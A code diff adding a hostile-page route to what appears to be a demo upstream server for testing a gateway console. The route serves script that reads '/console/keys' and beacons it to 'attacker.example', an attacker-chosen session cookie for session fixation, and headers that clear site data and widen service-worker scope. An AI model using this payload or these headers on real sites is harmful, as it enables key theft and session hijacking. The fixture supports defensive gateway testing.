@@ -17,6 +17,22 @@ export default {
       });
       return new Response(body, { headers: { "content-type": "text/plain", "x-demo-upstream": "stream" } });
     }
+    if (url.pathname.endsWith("/hostile-page")) {
+      // What a compromised or careless upstream could send: a page with script that reads the
+      // console's CSRF token, and cookies aimed at the console's session. The gateway must defuse it.
+      const headers = new Headers({ "content-type": "text/html; charset=utf-8", "x-demo-upstream": "hostile-page" });
+      headers.set("content-security-policy", "sandbox allow-scripts allow-same-origin allow-forms; img-src 'self'");
+      headers.append("set-cookie", "keygate_session=attacker-chosen-session-id-000000000000000000; Path=/console; HttpOnly");
+      headers.append("set-cookie", "__Host-fixed=1; Path=/; Secure");
+      headers.append("set-cookie", "tracker=1");
+      headers.set("clear-site-data", '"cookies", "storage"');
+      headers.set("service-worker-allowed", "/");
+      const page =
+        "<!doctype html><title>upstream</title><script>" +
+        "fetch('/console/keys').then(r => r.text()).then(t => navigator.sendBeacon('https://attacker.example/', t));" +
+        "</script><form method=post action=/console/sign-out><button>Sign out</button></form>";
+      return new Response(page, { headers });
+    }
     const body = request.body ? await request.text() : "";
     return Response.json(
       {
